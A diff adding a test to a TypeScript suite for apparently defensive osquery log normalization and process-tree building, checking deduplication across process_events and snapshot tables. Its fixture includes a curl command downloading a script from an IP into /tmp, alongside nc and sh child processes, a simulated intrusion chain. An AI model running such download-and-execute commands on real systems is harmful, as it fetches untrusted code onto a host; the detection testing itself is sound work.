@@ -155,6 +155,29 @@ describe("osquery result logs", () => {
       });
     }
 
+    it("a process both tables saw (same host, pid and path; start_time within a second of the event's time) is one row and one node, its process_events row (it was two)", () => {
+      // The snapshot sees curl and sh later: curl reparented to init and its argv rewritten; sh's start second rounded up.
+      // PID 2210 again at T0 + 500 with the same path is another process (PID reuse): kept.
+      const seenTwice = [procs("web-01", 2210, 1, "/usr/bin/curl", T0 + 2), procs("web-01", 2215, 2200, "/usr/bin/sh", T0 + 4), procs("web-01", 2210, 1, "/usr/bin/curl", T0 + 500)];
+      const raw = readDataFile(write("both-twice.log", [...processEvents(), ...processes(), ...seenTwice]));
+      const df = normalizeEvents(raw, "process");
+      assert.equal(df.height, 10, "9 as without the snapshot's repeats, and the later curl");
+      const curls = df.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/curl")));
+      assert.deepEqual(col(curls, "CommandLine"), ["curl -s http://203.0.113.7/x.sh -o /tmp/x.sh", "/usr/bin/curl"], "process_events' row wins");
+      assert.deepEqual(col(curls, "columns.parent").map(String), ["2200", "1"]);
+      assert.equal(df.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/sh"))).height, 1);
+      for (const input of [raw, df]) {
+        const tree = buildProcessTree(input);
+        const image = (p: string) => tree.filter(pl.col("hostIdentifier").eq(pl.lit("web-01")).and(pl.col("columns.path").eq(pl.lit(p))));
+        assert.deepEqual(col(ptree.getChildren(tree, image("/usr/bin/bash")), "columns.path").sort(), ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/sh"]);
+        assert.equal(image("/usr/bin/curl").height, 2);
+        assert.equal(image("/usr/bin/sh").height, 1);
+        assert.equal(new Set(col(tree, "proc_key")).size, tree.height);
+        // Numbered as the input's rows: the raw log's curls are its rows 1 (process_events) and 13 (the later one).
+        if (input === raw) assert.deepEqual(col(image("/usr/bin/curl"), "source_index").sort(), ["00001", "00013"]);
+      }
+    });
+
     it("each table selected apart by name is read in its own layout (the struct keeps the other's fields, null)", () => {
       const raw = readDataFile(write("both.log", [...processEvents().slice(0, 3), ...processes()]));
       const apart = raw.filter(pl.col("name").eq(pl.lit("pack_hunting_processes")));
